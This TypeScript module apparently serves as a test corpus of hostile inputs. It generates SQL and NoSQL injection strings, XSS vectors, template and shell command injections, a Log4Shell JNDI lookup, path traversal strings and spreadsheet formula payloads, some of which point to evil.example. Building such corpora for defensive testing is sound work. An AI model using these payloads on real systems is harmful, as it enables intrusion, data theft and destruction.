/** Text that would be code in another context: SQL, NoSQL, HTML, templates, shells, logs, spreadsheets, paths (docs/hostile-input.md#corpus). */

const SQL_TAILS = ['--', '#', '/*', ';', ';--', "'", '"', ')', '))'];
const SQL_HEADS = ["'", '"', "')", '")', '`', '1', '-1', '1)', "\\'"];
const SQL_MIDDLES = [' or 1=1', ' and 1=2', ' union select null', ' order by 99'];
const SQL_WRITTEN = [
  "'; drop table people; --",
  "1; update people set role='Admin'; --",
  "' || pg_sleep(30) || '",
  '1; select pg_sleep(30); --',
  "' and (select count(*) from pg_shadow) > 0 --",
  "'; copy people to program 'id'; --",
  '$$; drop table people; $$',
  "E'\\\\'; drop table people; --",
  "' union select email, password_hash from people --",
  '%27%20or%201%3D1',
  'ʼ or 1=1 --',
  '1e0 or true',
];
const SQL: readonly string[] = [
  ...SQL_HEADS.flatMap((head) => SQL_MIDDLES.map((middle, at) => `${head}${middle}${SQL_TAILS[at % SQL_TAILS.length]}`)),
  ...SQL_TAILS.flatMap((tail) => SQL_HEADS.slice(0, 5).map((head) => `${head} or ''='${tail}`)),
  ...SQL_WRITTEN,
];

const NO_SQL: readonly string[] = ['$gt', '$ne', '$regex', '$where', '$in', '$exists', '$or', '$expr'].flatMap((operator) => [
  `{"${operator}":""}`,
  `{"${operator}":1}`,
  `[${operator}]=`,
  `';return ${operator};//`,
]);

const TAGS = ['img src=x', 'svg', 'body', 'iframe src=x', 'video src=x', 'input autofocus', 'details open', 'marquee'];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart'];
const XSS: readonly string[] = [
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=alert(1)>`)),
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '</script><script>alert(1)//',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\u0009script:alert(1)">x</a>'.replace('\u0009', ' '),
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext></mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<form action=javascript:alert(1)><button>x',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<object data=data:text/html,x></object>',
  '<img src="x` `onerror=alert(1)">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '\\u003cscript\\u003e',
  'data:text/html;base64,PHNjcmlwdD4=',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
];

const OTHER_CODE: readonly string[] = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{{constructor.constructor("return process")()}}',
  '{% raw %}',
  '*)(uid=*))(|(uid=*',
  '(&(objectClass=*)(uid=admin))',
  '$(id)',
  '`id`',
  '| id',
  '; id',
  '&& id',
  '> /tmp/x',
  '() { :;}; id',
  '%0d%0aSet-Cookie: a=b',
  '2026-11-21 ERROR admin signed in',
  '{"level":50,"msg":"forged"}',
  '%s%s%s%n',
  '%x%x%x',
  '${jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'undefined',
  'null',
  'true',
  'NaN',
  '[object Object]',
  '1e309',
  '0x1F',
  '-0',
];

const PATHS: readonly string[] = [
  '../',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '%2e%2e%2f%2e%2e%2f',
  '%252e%252e%252f',
  '/etc/passwd',
  'C:\\boot.ini',
  'file:///etc/passwd',
  '\\\\evil.example\\share',
  'CON',
  'NUL.txt',
  '.htaccess',
  '.git/config',
];

const SPREADSHEET: readonly string[] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap((sign) => [
  `${sign}cmd|' /C calc'!A0`,
  `${sign}1+1`,
  `${sign}HYPERLINK("https://evil.example")`,
]);

export const INJECTIONS: readonly string[] = [...SQL, ...NO_SQL, ...XSS, ...OTHER_CODE, ...PATHS, ...SPREADSHEET];
